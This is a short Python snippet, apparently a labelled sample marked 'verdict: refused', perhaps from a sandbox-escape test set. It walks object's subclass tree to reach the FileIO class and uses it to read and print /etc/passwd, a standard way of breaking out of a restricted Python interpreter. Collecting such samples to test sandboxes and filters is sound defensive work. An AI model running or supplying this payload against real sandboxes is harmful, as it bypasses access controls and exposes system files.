# verdict: refused
def all_below(c):
    for sub in type.__subclasses__(c):
        yield sub
        yield from all_below(sub)


for c in set(all_below(object)):
    if c.__name__ == 'FileIO':
        print(c('/etc/passwd').read())
